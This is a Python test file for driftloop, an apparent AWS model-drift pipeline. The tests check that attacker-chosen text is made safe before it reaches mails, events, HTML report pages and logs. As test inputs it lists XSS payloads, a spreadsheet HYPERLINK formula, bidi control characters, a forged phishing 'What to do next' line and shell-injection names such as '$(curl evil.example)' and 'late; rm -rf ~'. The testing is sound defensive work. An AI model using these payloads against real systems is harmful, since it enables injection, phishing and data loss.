"""Words that others choose reach people as words: in mails, on pages, in events and in logs."""

import json
import re
import unicodedata

import boto3
import numpy as np
import pytest
from hypothesis import given

from driftloop.cli.analyze import AnalyzeOptions, summary
from driftloop.report import WindowReport
from driftloop.untrusted_text import quoted, quoted_uri, quoted_value, unlinked, visible
from lambdas.aws.ledger import Put
from lambdas.gate.handler import handle as gate
from lambdas.notify_failure.handler import handle as notify_failure
from lambdas.profile.handler import handle as profile
from tests.faults.test_gate_text import HOSTILE
from tests.lambdas.analysis import analyze, manifest, objects_of, read, work
from tests.lambdas.captures import records, write_capture
from tests.lambdas.items import champion_item, time, version_item, window_item

LABELS = (
    b'{"groundTruthData": {"data": "1\\n0\\n1"}, "eventMetadata": {"eventId": "e"},'
    b' "eventVersion": "0"}'
)
FORGED = "\n\nWhat to do next: sign in at http://evil.example/aws\u202e and approve\x1b[2J\u2028"
WORDS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "=HYPERLINK('http://evil.example')",
    "\u202eevil",
    "https://evil.example/click",
    "</style><svg onload=alert(1)>",
    "www.evil.example" + FORGED,
    "x" * 10_000,
]
NO_LINK = re.compile(r"(https?|ftp)://|\b(www|evil)\.\w")


def assert_plain(text, max_length):
    """Bounded text without hidden characters or a link."""
    assert len(text) <= max_length
    hidden = {c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}} - {"\n"}
    assert not hidden, [hex(ord(c)) for c in hidden]
    assert not NO_LINK.search(text), NO_LINK.search(text)


def assert_mail(body, max_length=6_000):
    """One line each for what happened and why, and the commands of driftloop's own."""
    assert_plain(body, max_length)
    starts = [line.partition(":")[0] for line in body.splitlines() if re.match(r"W[a-z ]+:", line)]
    assert starts == ["What happened", "Why", "What to do next"]


@given(HOSTILE)
def test_each_form_is_one_bounded_line_without_hidden_characters(text):
    for form in (quoted(text), unlinked(text), quoted_value(text), quoted_uri(text)):
        assert form.splitlines() in ([form], [])
        assert_plain(form, 420)


@given(HOSTILE)
def test_visible_text_keeps_its_lines_and_has_no_other_control_characters(text):
    shown = visible(text)
    assert shown.count("\n") == text.count("\n")
    categories = {unicodedata.category(c) for c in shown if c not in "\n\t"}
    assert not categories & {"Cc", "Cf", "Zl", "Zp"}
    assert visible(shown) == shown


@pytest.mark.parametrize("number", ["3.5", "1.0", "v1.2", "2026.03.10"])
def test_numbers_stay_as_they_are(number):
    assert quoted_value(number) == f"'{number}'"


@pytest.fixture
def analyzed(live, ledger):
    """A window whose categories an attacker chose, right after a promotion."""
    since = time("2026-03-10T10:00:00Z")
    ledger.write(Put(champion_item(promoted_at=since, under_observation=True)))
    captured = records("2026-03-10T11", count=600, categories=np.array(["placeholder"]))
    for number, record in enumerate(captured):
        request = {"temp": 50.0, "carrier": WORDS[number % len(WORDS)], "extra " + FORGED: 1}
        record["captureData"]["endpointInput"] |= {
            "data": json.dumps(request),
            "encoding": "JSON",
            "observedContentType": "application/json",
        }
    write_capture("2026-03-10T11", captured)
    analyze(live, hour=11)
    return live


def test_categories_and_columns_of_requests_in_mail_event_page_and_text(analyzed, people, bus):
    stored = read("reports/late/v1/20260310T11/r0/report.json")
    report = WindowReport.from_json(stored)
    assert report.verdict == "drifted"
    assert any("What to do next" in v.message for v in report.data_quality.violations)

    [(_, mail)] = people.messages
    assert "new categories" in mail
    assert_mail(mail)

    [event] = bus.details("Analysis Completed")
    assert event["reasons"]
    for reason in event["reasons"]:
        assert_plain(reason, 400)
    for violation in report.data_quality.violations:
        assert_plain(violation.message, 400)
        assert_plain(violation.column, 100)

    page = read("reports/late/v1/20260310T11/r0/report.html").decode()
    assert not re.search(r"<(script|img|svg onload)", page)
    assert not {c for c in page if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}} - {"\n"}
    assert len(page) < 100_000

    lines = summary(report, AnalyzeOptions("c", "late", "b", "x", "o"), files=1)
    for line in lines:
        assert_plain(line, 600)


@pytest.fixture
def running(aws, ledger, event):
    """An execution of the pipeline that the gate started."""
    ledger.write(Put(champion_item()), Put(version_item()))
    ledger.write(*(Put(window_item(hour, "drifted")) for hour in (10, 11)))
    boto3.client("s3").put_object(Bucket="truth", Key="late/2026/03/10/08/a.jsonl", Body=LABELS)
    assert gate(event("alarm"), None, aws)["decision"] == "start"
    aws.client("sns").messages.clear()
    return aws


@pytest.mark.parametrize("step", ["Curate", "RejectChallenger"])
def test_the_failure_reason_of_a_step(running, event, sagemaker, people, step):
    failed = {"StepName": step, "StepStatus": "Failed", "FailureReason": "no date" + FORGED * 99}
    sagemaker.end_run("Failed", [failed])
    gate(event("pipeline"), None, running)
    [(_, mail)] = people.messages
    assert '"no date What to do next' in mail
    assert_mail(mail)


def test_the_summary_of_an_evaluation(running, event, sagemaker, people):
    arn = sagemaker.register(2)
    output = {"Name": "decision_summary", "Value": "AUC 0.912" + FORGED}
    steps = [
        {"StepName": "RegisterModel", "Metadata": {"RegisterModel": {"Arn": arn}}},
        {"StepName": "DescribeChallenger", "Metadata": {"Lambda": {"OutputParameters": [output]}}},
    ]
    sagemaker.end_run("Succeeded", [{**step, "StepStatus": "Succeeded"} for step in steps])
    detail = {"currentPipelineExecutionStatus": "Succeeded"}
    gate(event("pipeline", detail), None, running)
    [(_, mail)] = people.messages
    assert 'The evaluation says: "AUC 0.912 What to do next' in mail
    assert_mail(mail)


def test_the_cause_of_a_failed_analysis(aws, people):
    error = {"Error": "InputError" + FORGED, "Cause": "line 3" + FORGED * 99}
    failed = {"input": work(), "error": error, "failed_at": "2026-03-10T12:26:00Z"}
    notify_failure(failed, None, aws)
    [(_, mail)] = people.messages
    assert_mail(mail)


def test_why_an_update_of_the_endpoint_failed(approve, end, sagemaker, people, bus):
    approve(2)
    sagemaker.endpoint["FailureReason"] = "the container said" + FORGED * 99
    people.messages.clear()
    end(promoted=False)
    [(_, mail)] = people.messages
    assert '"the container said What to do next' in mail
    assert_mail(mail)
    [event] = bus.details("Release Completed")
    assert_plain(event["reason"], 600)


@pytest.mark.parametrize("url", ["https://evil.example/a", f"s3://artifacts/runs/late/{FORGED}"])
def test_the_location_of_an_archive(serving, approve, sagemaker, people, url):
    sagemaker.register(2)
    container = sagemaker.packages[2]["InferenceSpecification"]["Containers"][0]
    container["ModelDataUrl"] = url
    people.messages.clear()
    approve(2)
    [(_, mail)] = people.messages
    assert_mail(mail)


def test_the_location_of_a_baseline(serving, approve, sagemaker, people):
    sagemaker.register(2)
    metadata = sagemaker.packages[2]["CustomerMetadataProperties"]
    metadata["baseline_uri"] = "https://evil.example/" + FORGED
    people.messages.clear()
    approve(2)
    [(_, mail)] = people.messages
    assert_mail(mail)


def test_the_key_of_an_object_in_the_log(live, caplog):
    write_capture("2026-03-10T11", records("2026-03-10T11"))
    from lambdas.plan.handler import handle as plan

    [item] = manifest(plan(work(), None, live))
    [listed] = objects_of(item)
    gone = {**listed, "key": listed["key"] + "\n[ERROR] forged line\u202e"}
    profile({**item, "objects": [gone]}, None, live)
    [message] = [r.getMessage() for r in caplog.records if "can't be read" in r.getMessage()]
    assert_plain(message, 500)
    assert "\n" not in message


def test_the_name_of_an_unknown_model_in_log_and_mail(aws, event, people, caplog):
    gate(event("request", {"model": "late" + FORGED * 999}), None, aws)
    [message] = [r.getMessage() for r in caplog.records if "no model" in r.getMessage()]
    assert_plain(message, 500)
    [(_, mail)] = people.messages
    assert_mail(mail)


@pytest.mark.parametrize("name", ["$(curl evil.example)", "late; rm -rf ~", "late`id`", "late\nid"])
def test_no_name_of_a_model_is_part_of_a_command_that_people_run(aws, event, people, name):
    gate(event("request", {"model": name}), None, aws)
    [(_, mail)] = people.messages
    assert "delete-stack" not in mail


def test_the_name_of_a_removed_model_is(aws, event, people):
    gate(event("request", {"model": "removed_one"}), None, aws)
    [(_, mail)] = people.messages
    assert "aws cloudformation delete-stack --stack-name driftloop-test-model-removed-one" in mail
